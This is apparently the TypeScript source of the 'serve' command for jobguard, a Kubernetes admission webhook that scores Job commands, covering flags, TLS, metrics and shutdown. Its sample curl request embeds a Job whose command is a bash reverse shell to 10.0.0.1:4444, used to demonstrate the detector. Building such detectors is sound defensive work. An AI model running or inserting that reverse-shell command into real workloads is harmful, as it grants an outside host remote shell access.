import { pino } from 'pino';
import { DEFAULT_BODY_BUDGET, DEFAULT_BODY_LIMIT, DEFAULT_MAX_CONNECTIONS } from '../server/app.js';
import { startServer, type RunningServer, type ServeOptions } from '../server/webhook.js';
import {
  parseChoice,
  parseFlags,
  parseInteger,
  parseSize,
  UsageError,
  type CliIo,
  type CliCommand,
} from './io.js';
import { configPath, overridesFromFlags, POLICY_FLAGS } from './flags.js';

const HELP = `Usage: jobguard serve [flags]

Runs the validating admission webhook: POST /validate, GET /healthz, GET /readyz, GET /metrics.
/readyz is false while draining after SIGTERM and, with cluster access, until namespace labels and
JobguardExceptions have synced (at most 10 s; then ready, saying which is unsynced). Without --client-ca-file the HTTPS port
answers /readyz with {"ready": …} only and serves no /metrics (anyone who reaches it could read
them): use --metrics-port. A request must arrive whole within 5 s (else 408); a TLS handshake must
finish within 5 s. An object past the analysis limits (100 containers, 2,000 command and args
entries, 512 KiB of commands, args and env values, nesting 64 deep) is not analysed: it is
answered as a deny verdict, which the mode turns into deny, warn or an annotation.

Flags:
  --config FILE             policy file (YAML or JSON, apiVersion jobguard.dev/v1); reloaded when it changes
  --host H                  address to listen on (default 127.0.0.1; 0.0.0.0 in a pod)
  --port N                  HTTPS port (default 8443)
  --tls-cert-file F         serving certificate (PEM); reloaded when it changes
  --tls-key-file F          its private key (PEM); without both, a self-signed certificate is generated in memory
  --client-ca-file F        require client certificates signed by this CA (mTLS from kube-apiserver)
  --client-name NAME        with --client-ca-file: the certificate's CN or a DNS name must be NAME
                            (repeat for several; default any certificate the CA signed)
  --metrics-port N          serve /metrics, /healthz and /readyz (with details) over plain HTTP on this port
  --metrics-namespace NS    give namespace NS its own metric label value (repeat; others count as "(other)")
  --profile P               scoring profile: default | kql (overrides the file)
  --mode M                  enforce | warn | audit | off (default warn; overrides the file)
  --annotate-threshold N    score at which audit annotations are added (default profile 2, kql 1)
  --warn-threshold N        score at which kubectl warnings are returned (default profile 4, kql 1)
  --deny-threshold N        score at which requests are denied in enforce mode (default profile 8, kql 3)
  --body-limit SIZE         largest request body, e.g. 8MiB (default 7MiB: an UPDATE carries two objects of up to 3 MiB)
  --body-budget SIZE        request bodies in flight at once, by announced size; beyond, 429 (default 16MiB)
  --max-connections N       open connections on the HTTPS port; beyond, new ones are closed (default ${DEFAULT_MAX_CONNECTIONS})
  --kubeconfig FILE         cluster for namespace labels and JobguardExceptions when not running in a pod
  --events MODE             Kubernetes Events in the object's namespace: off | deny | warn (deny and
                            warnings); needs cluster access; never for dry runs (default deny)
  --events-qps N            Events per second across all objects (default 5; more are dropped and counted)
  --events-burst N          Events at once (default 25)
  --shutdown-delay SECONDS  on SIGTERM, keep serving this long after /readyz turns false (default 0)
  --log-level L             fatal | error | warn | info | debug | trace (default info)
  -h, --help                show this help
`;

const FLAGS = {
  ...POLICY_FLAGS,
  host: { type: 'string', default: '127.0.0.1' },
  port: { type: 'string', default: '8443' },
  'tls-cert-file': { type: 'string' },
  'tls-key-file': { type: 'string' },
  'client-ca-file': { type: 'string' },
  'client-name': { type: 'string', multiple: true },
  'metrics-port': { type: 'string' },
  'metrics-namespace': { type: 'string', multiple: true },
  'body-limit': { type: 'string' },
  'body-budget': { type: 'string' },
  'max-connections': { type: 'string' },
  kubeconfig: { type: 'string' },
  events: { type: 'string', default: 'deny' },
  'events-qps': { type: 'string', default: '5' },
  'events-burst': { type: 'string', default: '25' },
  'shutdown-delay': { type: 'string', default: '0' },
  'log-level': { type: 'string', default: 'info' },
  help: { type: 'boolean', short: 'h' },
} as const;

function curlExample(url: string): string {
  return [
    '',
    `jobguard is listening on ${url} (self-signed certificate: use curl -k). Try:`,
    '',
    `  curl -sk ${url}/validate -H 'Content-Type: application/json' -d '{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"1","kind":{"group":"batch","version":"v1","kind":"Job"},"resource":{"group":"batch","version":"v1","resource":"jobs"},"namespace":"default","operation":"CREATE","userInfo":{"username":"me"},"object":{"apiVersion":"batch/v1","kind":"Job","metadata":{"name":"x"},"spec":{"template":{"spec":{"restartPolicy":"Never","containers":[{"name":"x","image":"alpine","command":["sh","-c","bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]}]}}}}}}'`,
    '',
  ].join('\n');
}

export const serve: CliCommand = async (argv: string[], io: CliIo): Promise<number> => {
  const { values } = parseFlags(argv, FLAGS);
  if (values.help) {
    io.stdout.write(HELP);
    return 0;
  }
  const certFile = values['tls-cert-file'];
  const keyFile = values['tls-key-file'];
  if ((certFile === undefined) !== (keyFile === undefined))
    throw new UsageError('--tls-cert-file and --tls-key-file go together');
  const clientCa = values['client-ca-file'];
  const logLevel =
    parseChoice('log-level', values['log-level'], [
      'fatal',
      'error',
      'warn',
      'info',
      'debug',
      'trace',
    ] as const) ?? 'info';
  const logger = pino({ level: logLevel, base: { service: 'jobguard' } }, io.stdout);
  const metricsPort = parseInteger('metrics-port', values['metrics-port'], 1, 65535);
  const options: ServeOptions = {
    overrides: overridesFromFlags(values),
    host: values.host,
    port: parseInteger('port', values.port, 0, 65535) ?? 8443,
    bodyLimit: parseSize('body-limit', values['body-limit']) ?? DEFAULT_BODY_LIMIT,
    bodyBudget: parseSize('body-budget', values['body-budget']) ?? DEFAULT_BODY_BUDGET,
    maxConnections:
      parseInteger('max-connections', values['max-connections'], 1, 1_000_000) ?? DEFAULT_MAX_CONNECTIONS,
    metricsNamespaces: values['metrics-namespace'] ?? [],
    ...(values['client-name'] ? { clientNames: values['client-name'] } : {}),
    shutdownDelayMs: (parseInteger('shutdown-delay', values['shutdown-delay'], 0, 600) ?? 0) * 1000,
    logger,
    env: io.env,
    ...(values.config === undefined ? {} : { configFile: configPath(values, io) }),
    ...(certFile && keyFile ? { tls: { certFile, keyFile, ...(clientCa ? { caFile: clientCa } : {}) } } : {}),
    ...(metricsPort === undefined ? {} : { metricsPort }),
    ...(values.kubeconfig === undefined ? {} : { kubeconfig: values.kubeconfig }),
    events: {
      mode: parseChoice('events', values.events, ['off', 'deny', 'warn'] as const) ?? 'deny',
      qps: parseInteger('events-qps', values['events-qps'], 1, 1000) ?? 5,
      burst: parseInteger('events-burst', values['events-burst'], 1, 10_000) ?? 25,
    },
  };
  if (clientCa && !options.tls)
    throw new UsageError('--client-ca-file needs --tls-cert-file and --tls-key-file');
  if (values['client-name'] && !clientCa) throw new UsageError('--client-name needs --client-ca-file');
  let server: RunningServer;
  try {
    server = await startServer(options);
  } catch (error) {
    // Not `instanceof Error`: a listen error comes from Node's own realm, which may not be this one's.
    const { name, code, message } = (error ?? {}) as { name?: string; code?: string; message?: string };
    if (name === 'TlsError' || code === 'EADDRINUSE' || code === 'EACCES')
      throw new UsageError(message ?? String(code));
    throw error;
  }
  if (!options.tls) io.stderr.write(curlExample(server.url));
  await new Promise<void>((resolve) => {
    const stop = (signal: NodeJS.Signals): void => {
      logger.info({ signal }, 'shutting down: readiness is false, finishing in-flight requests');
      process.off('SIGTERM', stop);
      process.off('SIGINT', stop);
      void server.close().then(resolve);
    };
    process.on('SIGTERM', stop);
    process.on('SIGINT', stop);
  });
  logger.info('stopped');
  return 0;
};
